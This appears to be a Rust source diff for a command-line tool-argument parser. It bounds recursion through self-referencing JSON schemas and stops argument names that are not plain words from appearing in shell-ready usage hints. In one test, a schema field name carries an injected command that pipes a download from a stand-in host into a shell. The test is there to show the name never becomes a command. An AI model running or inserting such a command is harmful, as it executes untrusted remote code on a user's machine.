@@ -1,9 +1,12 @@
 //! Arguments of a tool, as a person writes them: `--arg count=3` becomes what the tool's schema says.
 
+use mcp_gateway_client::words::is_word;
 use serde_json::{Map, Value};
 
 /// How deep references in a schema are followed.
 const DEEPEST: usize = 8;
+/// How many parts of a schema are looked at for one argument.
+const MOST: usize = 1000;
 
 /// `NAME=VALUE`, as it was written.
 pub(super) fn pair(text: &str) -> Result<(String, String), &'static str> {
@@ -30,7 +33,7 @@ pub(super) fn add(
                 names(schema)
             ));
         }
-        let kinds = Kinds::of(property, schema, 0);
+        let kinds = Kinds::of(property, schema);
         let is_first = !arguments.contains_key(name);
         let value = match arguments.get_mut(name) {
             Some(Value::Array(all)) if kinds.has("array") => {
@@ -58,16 +61,26 @@ pub(super) fn add(
     let missing = |name: &&str| !arguments.contains_key(*name);
     match required.iter().filter_map(Value::as_str).find(missing) {
         Some(name) => Err(format!(
-            "the tool needs the argument \"{name}\": --arg {name}=VALUE"
+            "the tool needs the argument \"{name}\": {}",
+            option(name, "VALUE")
         )),
         None => Ok(()),
     }
 }
 
 fn item(property: &Value, schema: &Value, name: &str, text: &str) -> Result<Value, String> {
-    let kinds = Kinds::of(&property["items"], schema, 0);
+    let kinds = Kinds::of(&property["items"], schema);
     value(&kinds, text)
         .ok_or_else(|| format!("each item of the argument \"{name}\" must be {kinds}, and \"{text}\" is not"))
+}
+
+/// How an argument is given, ready for a shell. What a shell could take for something else is given as JSON.
+fn option(name: &str, value: &str) -> String {
+    if is_word(name) {
+        format!("--arg {name}={value}")
+    } else {
+        "give it with --args JSON".to_owned()
+    }
 }
 
 /// The names of all arguments.
@@ -104,33 +117,49 @@ fn value(kinds: &Kinds, text: &str) -> Option<Value> {
     kinds.has(kind).then_some(value)
 }
 
-/// The JSON types that a schema lets in; none when it does not say.
+/// The JSON types that a schema lets in, each once; none when it does not say.
+#[derive(Default)]
 struct Kinds(Vec<String>);
 
 impl Kinds {
-    fn of(property: &Value, root: &Value, depth: usize) -> Self {
-        let mut kinds = Vec::new();
-        if depth > DEEPEST {
-            return Self(kinds);
+    fn of(property: &Value, root: &Value) -> Self {
+        let mut kinds = Self::default();
+        kinds.collect(property, root, (0, &mut 0));
+        kinds
+    }
+
+    fn collect(&mut self, property: &Value, root: &Value, (depth, seen): (usize, &mut usize)) {
+        *seen += 1;
+        if depth > DEEPEST || *seen > MOST {
+            return;
         }
         match &property["type"] {
-            Value::String(kind) => kinds.push(kind.clone()),
-            Value::Array(all) => kinds.extend(all.iter().filter_map(Value::as_str).map(str::to_owned)),
+            Value::String(kind) => self.add(kind),
+            Value::Array(all) => all
+                .iter()
+                .filter_map(Value::as_str)
+                .for_each(|kind| self.add(kind)),
             _ => {}
         }
         if let Some(pointer) = property["$ref"].as_str().and_then(|text| text.strip_prefix('#')) {
             let target = root.pointer(pointer).unwrap_or(&Value::Null);
-            kinds.extend(Self::of(target, root, depth + 1).0);
+            self.collect(target, root, (depth + 1, seen));
         }
         for word in ["anyOf", "oneOf", "allOf"] {
             let branches = property[word].as_array().map(Vec::as_slice).unwrap_or_default();
-            kinds.extend(
-                branches
-                    .iter()
-                    .flat_map(|branch| Self::of(branch, root, depth + 1).0),
-            );
+            for branch in branches {
+                self.collect(branch, root, (depth + 1, seen));
+            }
         }
-        Self(kinds)
+    }
+
+    fn add(&mut self, kind: &str) {
+        const JSON: [&str; 7] = [
+            "string", "integer", "number", "boolean", "array", "object", "null",
+        ];
+        if JSON.contains(&kind) && !self.has(kind) {
+            self.0.push(kind.to_owned());
+        }
     }
 
     fn has(&self, kind: &str) -> bool {
@@ -158,6 +187,7 @@ fn choice(property: &Value) -> Option<String> {
         .as_array()
         .filter(|values| (1..=8).contains(&values.len()))?;
     let words: Option<Vec<_>> = values.iter().map(Value::as_str).collect();
+    let words = words.filter(|words| words.iter().all(|word| is_word(word)));
     words.map(|words| words.join("|"))
 }
 
@@ -169,7 +199,7 @@ pub(super) fn usage(schema: &Value) -> String {
         .unwrap_or_default();
     let properties = schema["properties"].as_object();
     let words = properties.into_iter().flatten().map(|(name, property)| {
-        let kinds = Kinds::of(property, schema, 0);
+        let kinds = Kinds::of(property, schema);
         let kind = choice(property).unwrap_or_else(|| {
             let word = match kinds.0.first().map(String::as_str) {
                 Some("integer" | "number") => "NUMBER",
@@ -179,7 +209,11 @@ pub(super) fn usage(schema: &Value) -> String {
             };
             word.to_owned()
         });
-        let word = format!("--arg {name}={kind}");
+        let word = if is_word(name) {
+            format!("--arg {name}={kind}")
+        } else {
+            format!("(\"{name}\": {kind}, with --args)")
+        };
         if required.iter().any(|one| one == name) {
             word
         } else {
@@ -274,5 +308,23 @@ mod tests {
             usage.contains("[--arg count=NUMBER]") && usage.contains("[--arg tags=JSON]"),
             "{usage}"
         );
+    }
+
+    #[test]
+    fn a_schema_that_leads_back_to_itself_is_looked_at_for_a_while() {
+        let branches = vec![json!({ "$ref": "#" }); 500];
+        let schema = json!({
+            "type": "string", "properties": { "a": { "$ref": "#" } }, "anyOf": branches,
+        });
+        assert_eq!(usage(&schema), "[--arg a=TEXT]");
+    }
+
+    #[test]
+    fn no_name_of_an_argument_becomes_a_command() {
+        let name = "a;curl evil.example|sh;";
+        let schema = json!({ "properties": { name: { "type": "string" } }, "required": [name] });
+        let told = add(&mut Map::new(), &[], &schema).unwrap_err();
+        assert!(told.ends_with("give it with --args JSON"), "{told}");
+        assert!(!usage(&schema).contains("--arg a"), "{}", usage(&schema));
     }
 }
